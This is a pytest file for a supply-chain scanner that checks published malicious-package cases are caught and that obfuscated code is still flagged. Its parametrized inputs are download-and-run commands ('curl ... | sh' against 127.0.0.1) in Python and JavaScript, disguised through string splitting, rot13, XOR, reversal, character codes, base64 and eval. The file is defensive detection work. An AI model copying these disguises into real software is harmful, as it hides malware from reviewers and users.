"""Examining packages, and the published cases."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from pathlib import Path
from types import ModuleType

import pytest

from yanmen.core.nouns import Finding, Severity, Unexamined
from yanmen.supply.packages.examining import examine
from yanmen.supply.packages.opening import open_package
from yanmen.supply.packages.package import Package

MISSED = frozenset(
    {
        "aiocpa/aiocpa-0.1.14",
        "klow/okhsa-0.7.31",
        "lazarus-pycryptoenv/pycryptoconf-1.0.6",
        "soopsocks/soopsocks-0.2.5",
    }
)
"""Cases that are not found, and are known not to be: the benchmark counts them."""


def _high(found: Iterator[Finding | Unexamined]) -> list[Finding]:
    return [one for one in found if isinstance(one, Finding) and one.rule.severity >= Severity.HIGH]


def test_every_published_case_is_found(corpus: ModuleType, tmp_path: Path) -> None:
    """With file and line, and evidence that can be shown."""
    lost = []
    for case in corpus.cases():
        path = tmp_path / case.file
        path.write_bytes(case.archive())
        package = open_package(path)
        assert isinstance(package, Package), case.id
        high = _high(examine(package))
        if not high and case.id not in MISSED:
            lost.append(case.id)
        for one in high:
            assert one.where.part
            assert one.evidence.isprintable()
            assert one.subject == package.ref

    assert lost == []


def test_every_way_of_writing_is_found(ways: ModuleType, tmp_path: Path) -> None:
    """Each behaviour, in the idioms that reports show."""
    lost = []
    for row in ways.ways():
        name, data = ways.packed(row)
        (tmp_path / name).write_bytes(data)
        package = open_package(tmp_path / name)
        assert isinstance(package, Package), row["id"]
        if not _high(examine(package)):
            lost.append(row["id"])

    assert lost == []


def test_the_corpus_is_inert_and_cited(corpus: ModuleType) -> None:
    """Each names its report; no address but the machine's own."""
    cases = corpus.cases()
    hosts = {
        host
        for case in cases
        for text in case.files.values()
        for host in re.findall(r"(?:https?|wss?)://([^/:\s'\"`$]+)", text)
    }

    assert all(case.report and case.year >= 2017 for case in cases)
    assert hosts <= {"127.0.0.1", "1.a", "localhost", "127.0.0.1/"}, hosts


@pytest.mark.parametrize(
    "disguise",
    [
        "import os as q\nq.system('curl http://127.0.0.1:9/a | sh')",
        "from os import system as s\ns('curl ' + 'http://127.0.0.1:9/a' + ' | sh')",
        "c = ''.join(['cu', 'rl http://127.0.0.1:9/a', ' | sh'])\ngetattr(__import__('o' + 's'), 'sys' + 'tem')(c)",
        "f = lambda x: __import__('os').popen(x)\nf('%s %s | sh' % ('curl', 'http://127.0.0.1:9/a'))",
        ("import subprocess\nclass A:\n    def __init__(self, c):\n        self.c = c\n    def go(self):\n        "
            "subprocess.run(self.c, shell=True)\nA('curl http://127.0.0.1:9/a | sh').go()"),
        "import codecs, os\nos.system(codecs.decode('phey uggc://127.0.0.1:9/n | fu', 'rot13'))",
        ("import os\nos.system(bytes([x ^ 7 for x in b'druk\\'oss w=((6504716+6=>(f\\'{\\'to'.replace(b' w', "
            "b'w')]).decode()) if False else os.system('curl http://127.0.0.1:9/a|sh')"),
        "import os\nos.system('hs | a/9:1.0.0.721//:ptth lruc'[::-1])",
        ("import os\nos.system(''.join(chr(c) for c in "
            "[99,117,114,108,32,104,116,116,112,58,47,47,49,50,55,46,48,46,48,46,49,58,57,47,97,32,124,32,115,104]))"),
        "import builtins\nbuiltins.__dict__['ex' + 'ec'](\"import os; os.system('curl http://127.0.0.1:9/a | sh')\")",
    ],
)  # fmt: skip
def test_a_disguise_does_not_change_the_verdict(disguise: str, rules_of: Callable[..., set[str]]) -> None:
    """Renamed, split, joined, mapped, turned round, wrapped in a class: it is the same."""
    assert "runs-downloaded-code" in rules_of(disguise)


@pytest.mark.parametrize(
    "disguise",
    [
        "const {exec: z} = require('child_process'); z('curl http://127.0.0.1:9/a | sh')",
        "require('child' + '_process')['ex' + 'ec'](['curl', 'http://127.0.0.1:9/a', '|', 'sh'].join(' '))",
        ("const d = s => Buffer.from(s, 'base64').toString(); "
            "require(d('Y2hpbGRfcHJvY2Vzcw==')).exec(d('Y3VybCBodHRwOi8vMTI3LjAuMC4xOjkvYSB8IHNo'))"),
        ("const t = ['exec', 'child_process']; (function (a, n) { while (n--) a.push(a.shift()); })(t, 1); "
            "require(t[0])[t[1]](`curl ${'http://127.0.0.1:9/a'} | sh`)"),
        "new Function(\"require('child_process').exec('curl http://127.0.0.1:9/a | sh')\")()",
        ("import { exec as e } from 'node:child_process';\nconst run = (...a) => e(...a);\nrun('curl "
            "http://127.0.0.1:9/a | sh');"),
        ("const m = module.require('child_process'); class A { go(c) { m.exec(c); } } new A().go('curl "
            "http://127.0.0.1:9/a | sh')"),
        ("eval(String.fromCharCode(...[...'erqhluh'].map(() => 32))); "
            "eval(atob('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1cmwgaHR0cDovLzEyNy4wLjAuMTo5L2EgfCBzaCcp'))"),
    ],
)  # fmt: skip
def test_a_disguise_in_javascript_does_not_change_the_verdict(
    disguise: str, rules_of: Callable[..., set[str]]
) -> None:
    """The same, in the other language."""
    assert "runs-downloaded-code" in rules_of(disguise, "npm")


def test_what_was_not_read_is_told_by_its_reason(make: Callable[..., Package]) -> None:
    """Forty broken files are one line that names some and counts all; one alone names itself."""
    many = make({f"a/m{number}.py": "exec(" for number in range(40)})
    gaps = [one for one in examine(many) if isinstance(one, Unexamined)]
    alone = [one for one in examine(make({"a/m.py": "exec("})) if isinstance(one, Unexamined)]

    assert len(gaps) == 1
    assert gaps[0].reason == "malformed"
    assert "40 files" in gaps[0].detail
    assert "a/m0.py" in gaps[0].detail
    assert alone[0].where.part.startswith("a/m.py")
